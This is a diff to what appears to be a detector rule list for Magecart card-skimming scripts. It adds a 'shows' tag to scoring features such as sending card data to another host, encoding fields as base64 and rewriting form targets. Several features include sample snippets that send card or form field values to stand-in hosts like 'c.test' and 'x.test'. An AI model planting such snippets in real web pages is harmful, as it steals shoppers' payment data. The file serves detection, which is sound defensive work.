@@ -147,6 +147,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'card-data-sent',
     what: 'Sends card data',
     points: 40,
+    shows: ['taken'],
     find: sends(taint.cardName, anyField),
     samples: {
       matching: [`fetch('/pay', { body: document.querySelector('[name=cardnumber]').value });`],
@@ -157,6 +158,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'card-data-sent-elsewhere',
     what: 'Sends card data to another host or an unknown one',
     points: 25,
+    shows: [],
     find: sendsTo(otherHosts, taint.cardName, anyField),
     samples: {
       matching: [
@@ -169,6 +171,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'card-data-sent-unanswered',
     what: 'Sends card data and ignores the response, unlike a payment',
     points: 50,
+    shows: ['taken'],
     find: sendsIgnoringResponse(taint.cardName, anyField),
     samples: {
       matching: [
@@ -186,6 +189,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'card-data-encoded',
     what: 'Encodes data of fields as base64 before it sends them',
     points: 25,
+    shows: [],
     find: sends(taint.encoded, anyField),
     samples: {
       matching: [`new Image().src = '//c.test/?' + btoa(document.getElementById('a').value);`],
@@ -196,6 +200,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'all-fields-sent-unanswered',
     what: 'Sends all fields of the page or a form and ignores the response',
     points: 40,
+    shows: ['taken'],
     find: sendsIgnoringResponse(taint.allFields, taint.field),
     samples: {
       matching: [
@@ -210,6 +215,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'all-fields-sent-elsewhere',
     what: 'Sends all fields to another host, ignores the response and skips no field',
     points: 65,
+    shows: ['destination'],
     find: unmasked(
       'any',
       sendsToIgnoringResponse(['foreign', 'hidden'], taint.allFields, taint.field),
@@ -232,6 +238,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'all-fields-sent-somewhere',
     what: 'Sends all fields to an unknown host and ignores the response',
     points: 25,
+    shows: [],
     find: unmasked('any', sendsToIgnoringResponse(['unknown'], taint.allFields, taint.field)),
     samples: {
       matching: [`document.onchange = (e) => navigator.sendBeacon(u, e.target.value);`],
@@ -242,6 +249,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'payment-fields-sent-elsewhere',
     what: 'Sends all fields of payment pages to another host and skips only passwords',
     points: 40,
+    shows: ['destination'],
     find: allOf(
       onlyPasswordsMasked(
         sendsToIgnoringResponse(['foreign', 'hidden'], taint.allFields, taint.field),
@@ -262,6 +270,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'submission-copied',
     what: 'Sends all fields to another host while the form submits normally',
     points: 92,
+    shows: ['destination'],
     find: unmasked('any', (facts) =>
       facts.methods.has('preventDefault') || facts.properties.has('preventDefault')
         ? []
@@ -284,6 +293,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'form-target-changed',
     what: 'Changes the target of forms of the page to another host',
     points: 60,
+    shows: ['destination'],
     find: formTargets,
     samples: {
       matching: [`document.querySelector('form').action = 'https://x.test/p';`],
@@ -297,6 +307,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'payment-target-changed',
     what: 'Changes the target of forms with card fields to another host',
     points: 45,
+    shows: ['taken'],
     find: allOf(
       formTargets,
       anyOf(
@@ -331,6 +342,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'payment-form-copied',
     what: 'Selects the payment form of a page, sends its fields and ignores the response',
     points: 30,
+    shows: ['taken'],
     find: allOf(sendsIgnoringResponse(taint.allFields, taint.field), paymentSelectors),
     samples: {
       matching: [
@@ -345,6 +357,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'hidden-card-names',
     what: 'Hides the names of card fields in encoded strings',
     points: 60,
+    shows: ['taken', 'hidden'],
     find: text(
       ({ isDecoded, isListed, text: it }) =>
         isDecoded && !isListed && it.length > 2 && isCardName(it),
@@ -358,6 +371,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'listed-skimmer',
     what: 'Hides names of card fields, of functions that read them and of functions that send them in an encoded array',
     points: 75,
+    shows: ['decisive'],
     find: listedSkimmer,
     samples: {
       matching: [
@@ -373,6 +387,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'checkout-only',
     what: 'Acts on checkout pages only',
     points: 25,
+    shows: [],
     find: checkoutChecks,
     samples: {
       matching: [
@@ -386,6 +401,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'card-form-made',
     what: 'Inserts a form with card fields into the page',
     points: 35,
+    shows: ['taken'],
     find: madeCardForm,
     samples: {
       matching: [`el.innerHTML = '<form><input name="cc-number"><input name="cvv"></form>';`],
@@ -396,6 +412,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'made-form-sent',
     what: 'Inserts a form with card fields into the page, sends fields to another host and ignores the response',
     points: 45,
+    shows: ['destination'],
     find: allOf(madeCardForm, sendsToIgnoringResponse(otherHosts, taint.field)),
     samples: {
       matching: [
@@ -410,6 +427,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'card-numbers-recognised',
     what: 'Recognises card numbers in the data that it sends',
     points: 20,
+    shows: ['taken'],
     find: allOf(
       text(({ text: it }) => cardNumberPatterns.some((pattern) => it.includes(pattern))),
       sends(anyField),
@@ -425,6 +443,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'imitated-service',
     what: 'Uses a host that imitates the name of a well-known service',
     points: 30,
+    shows: ['destination'],
     find: text(({ text: it }) => imitatesService(it)),
     samples: {
       matching: [`load('https://google-analytics.stat.test/ga.js');`],
@@ -435,6 +454,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'payment-form-replaced',
     what: 'Hides the payment form of the page and replaces it by its own',
     points: 40,
+    shows: ['taken'],
     find: allOf(
       madeCardForm,
       text(({ text: it }) => it === 'none' || /display:\s*none/.test(it)),
